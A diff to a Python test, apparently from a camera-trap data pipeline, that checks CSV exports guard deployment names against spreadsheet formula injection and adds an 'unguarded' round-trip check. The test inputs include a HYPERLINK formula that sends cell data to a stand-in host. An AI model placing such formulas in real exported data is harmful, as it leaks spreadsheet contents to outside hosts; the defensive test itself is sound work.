@@ -491,6 +491,8 @@ def test_the_camera_tables_never_hand_a_spreadsheet_a_formula() -> None:
 
     import numpy as np
 
+    from gpu_batch.formats.detections_csv import unguarded
+
     [cam] = _visits([tapped(camera_day(1, cameras=1, images=20))[0]])
     for name in ('=HYPERLINK("http://x/?"&A1,"x")', "+north", "-2", "@cam"):
         visits = ev.camera_visits_csv([dataclasses.replace(cam, deployment=name)], 60, 0.2).decode("utf-8")
@@ -498,3 +500,5 @@ def test_the_camera_tables_never_hand_a_spreadsheet_a_formula() -> None:
         days = ev.CameraDays(name, np.array([19876], np.int32), np.ones((1, len(ev.DAY_COUNTS)), np.int32))
         [day] = list(csv.DictReader(io.StringIO("".join(ev.camera_days_lines([days], 60, 0.2)))))
         assert row["deploymentID"] == day["deploymentID"] == "'" + name
+        assert unguarded(row["deploymentID"]) == name  # as the preview page shows it (activities.previews)
+    assert unguarded("'plain") == "'plain" and unguarded("") == ""
